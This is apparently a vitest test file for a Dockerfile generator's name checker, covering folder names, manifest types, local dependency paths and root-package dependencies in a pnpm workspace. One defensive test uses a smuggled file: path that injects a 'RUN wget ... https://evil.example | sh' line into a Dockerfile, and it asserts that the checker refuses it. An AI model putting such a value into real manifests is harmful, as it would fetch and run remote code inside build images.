/**
 * checkGeneratedNames (scripts/core/dockerfiles/names.ts) reports the first unusable name in the
 * order the services come, each service's folder before its package name.
 */
import { describe, expect, test } from 'vitest';
import { checkGeneratedNames } from '../../scripts/core/dockerfiles/names.js';
import { builderInputs } from '../../scripts/core/dockerfiles/render.js';
import { buildWorkspace, type PackageInput } from '../../scripts/core/workspace/graph.js';
import { parseManifest } from '../../scripts/core/workspace/manifest.js';

const svc = (dir: string, name: string): PackageInput => ({
  dir,
  isService: true,
  manifest: parseManifest(`${dir}/package.json`, JSON.stringify({ name, kodingcaravan: { port: 1 } })),
});

describe('checkGeneratedNames: the first name a generated file cannot hold', () => {
  test("a service's folder is checked before its package name", () => {
    expect(() => checkGeneratedNames(buildWorkspace([svc('services/Bad', 'Bad')]))).toThrow(/^"services\/Bad": folder name "Bad" cannot be used/);
  });

  test("a service's bad folder is reported before a later service's bad package name", () => {
    expect(() => checkGeneratedNames(buildWorkspace([svc('services/Aa', '@k/a'), svc('services/b', '@k/B')]))).toThrow(/^"services\/Aa": folder name "Aa"/);
  });
});

describe('checkGeneratedNames: a local input (file:/link: folder) is a folder a Dockerfile copies too', () => {
  const dependent = (deps: Record<string, string>): PackageInput => ({
    dir: 'services/api',
    isService: true,
    manifest: parseManifest('services/api/package.json', JSON.stringify({ name: '@k/api', kodingcaravan: { port: 1 }, dependencies: deps })),
  });

  // renderDockerfile writes `COPY <path> <path>` for it: a line break in the path is a new Dockerfile instruction.
  test('a line break in the path a file: dependency points at is refused before anything is rendered', () => {
    const ws = buildWorkspace([dependent({ pad: 'file:../../vendor/pad\nRUN wget -qO- https://evil.example | sh\n#' })]);
    expect(ws.get('@k/api').localInputs).toEqual(['vendor/pad\nRUN wget -qO- https:/evil.example | sh\n#']);
    expect(() => checkGeneratedNames(ws)).toThrow(/cannot be used in generated files/);
  });

  // `COPY vendor/my pad vendor/my pad` is three sources and a destination to Docker.
  test('a space in the path a link: dependency points at is refused', () => {
    expect(() => checkGeneratedNames(buildWorkspace([dependent({ pad: 'link:../../vendor/my pad' })]))).toThrow(/cannot be used in generated files/);
  });
});

describe("checkGeneratedNames: a service's manifest is package.json", () => {
  // pnpm reads package.yaml and package.json5 too, Node does not: the image's `node` reads package.json
  // for "type" and "exports", and verify-image reads /app/package.json for the service's name.
  test.each(['package.yaml', 'package.json5'] as const)('a service whose manifest is %s is refused, naming the file and the fix', (manifestFile) => {
    const ws = buildWorkspace([{ ...svc('services/api', '@k/api'), manifestFile }]);
    expect(() => checkGeneratedNames(ws)).toThrow(
      new RegExp(
        `^"services/api"/${manifestFile.replace('.', '\\.')}: a service's manifest must be package\\.json \\(Node reads "type" and "exports" from it, and verify-image reads the image's /app/package\\.json\\); convert it \\(pnpm reads either\\)$`,
      ),
    );
  });

  test('a library whose manifest is package.yaml and that no service depends on is no part of any image: not refused', () => {
    const lib: PackageInput = {
      dir: 'packages/util',
      isService: false,
      manifestFile: 'package.yaml',
      manifest: parseManifest('packages/util/package.yaml', JSON.stringify({ name: '@k/util' })),
    };
    const api: PackageInput = {
      dir: 'services/api',
      isService: true,
      manifest: parseManifest('services/api/package.json', JSON.stringify({ name: '@k/api', kodingcaravan: { port: 1 } })),
    };
    expect(() => checkGeneratedNames(buildWorkspace([lib, api]))).not.toThrow();
  });
});

describe("checkGeneratedNames: a service's workspace dependencies are resolved by Node and tsc through package.json", () => {
  // `pnpm --filter api deploy --prod /out` (pnpm 10.34.9, injectWorkspacePackages) copies a package.yaml
  // library as it is: /out/node_modules/@k/util holds dist/index.js and package.yaml, no package.json, so
  // `import "@k/util"` in the image fails (ERR_MODULE_NOT_FOUND: Node ignores "main"/"exports" there),
  // and tsc in the builder stage cannot find its types either. The generator must refuse it, naming the file.
  test.each(['package.yaml', 'package.json5'] as const)('a library a service depends on whose manifest is %s is refused, naming the file', (manifestFile) => {
    const lib: PackageInput = {
      dir: 'packages/util',
      isService: false,
      manifestFile,
      manifest: parseManifest(`packages/util/${manifestFile}`, JSON.stringify({ name: '@k/util', main: './dist/index.js' })),
    };
    const api: PackageInput = {
      dir: 'services/api',
      isService: true,
      manifest: parseManifest('services/api/package.json', JSON.stringify({ name: '@k/api', kodingcaravan: { port: 1 }, dependencies: { '@k/util': 'workspace:*' } })),
    };
    expect(() => checkGeneratedNames(buildWorkspace([lib, api]))).toThrow(new RegExp(`packages/util"?/${manifestFile.replace('.', '\\.')}`));
  });

  // The tarball error names the dependency's manifest: a package.yaml library's is not package.json.
  test('a file: tarball dependency of a package.yaml library is refused naming package.yaml', () => {
    const lib: PackageInput = {
      dir: 'packages/util',
      isService: false,
      manifestFile: 'package.yaml',
      manifest: parseManifest('packages/util/package.yaml', JSON.stringify({ name: '@k/util', dependencies: { pad: 'file:../../vendor/pad.tgz' } })),
    };
    const api: PackageInput = {
      dir: 'services/api',
      isService: true,
      manifest: parseManifest('services/api/package.json', JSON.stringify({ name: '@k/api', kodingcaravan: { port: 1 }, dependencies: { '@k/util': 'workspace:*' } })),
    };
    expect(() => builderInputs(buildWorkspace([lib, api]), buildWorkspace([lib, api]).get('@k/api'))).toThrow(/^packages\/util\/package\.yaml: a file: dependency on the tarball/);
  });
});

describe('checkGeneratedNames: a service cannot hold the workspace root package', () => {
  // pnpm links the root folder (the whole repository) into a package depending on the root package.
  const pkg = (dir: string, name: string, isService: boolean, deps: Record<string, string> = {}): PackageInput => ({
    dir,
    isService,
    manifest: parseManifest(`${dir}/package.json`, JSON.stringify({ name, ...(isService ? { kodingcaravan: { port: 1 } } : {}), dependencies: deps })),
  });

  test.each([
    ['the service itself', [pkg('services/api', '@k/api', true, { root: 'workspace:*' })], 'services/api'],
    [
      'a library it depends on',
      [pkg('packages/util', '@k/util', false, { root: 'workspace:*' }), pkg('services/api', '@k/api', true, { '@k/util': 'workspace:*' })],
      'packages/util',
    ],
  ])('%s depending on it is refused, naming the manifest and the service', (_, inputs, dir) => {
    expect(() => checkGeneratedNames(buildWorkspace(inputs, { rootName: 'root' }))).toThrow(
      `"${dir}"/package.json: depends on the workspace root package, which "services/api"'s image cannot hold (pnpm links the whole repository); move what it needs into a workspace package`,
    );
  });

  test('a library no service uses may depend on it', () => {
    const ws = buildWorkspace([pkg('packages/tools', '@k/tools', false, { root: 'workspace:*' }), pkg('services/api', '@k/api', true)], { rootName: 'root' });
    expect(() => checkGeneratedNames(ws)).not.toThrow();
    expect(ws.get('@k/tools').dependsOnRoot).toBe(true);
  });
});
